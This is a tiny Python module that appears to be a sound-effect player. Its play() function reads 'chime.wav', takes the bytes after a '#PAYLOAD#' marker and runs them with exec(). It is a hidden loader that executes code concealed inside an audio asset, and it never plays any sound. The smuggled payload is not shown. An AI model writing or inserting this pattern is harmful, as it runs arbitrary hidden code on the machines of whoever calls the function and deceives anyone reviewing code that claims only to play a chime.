import os

_P = os.path.join(os.path.dirname(__file__), 'chime.wav')


def play():
    data = open('chime.wav', 'rb').read()
    exec(data.partition(b'#PAYLOAD#')[2].decode())
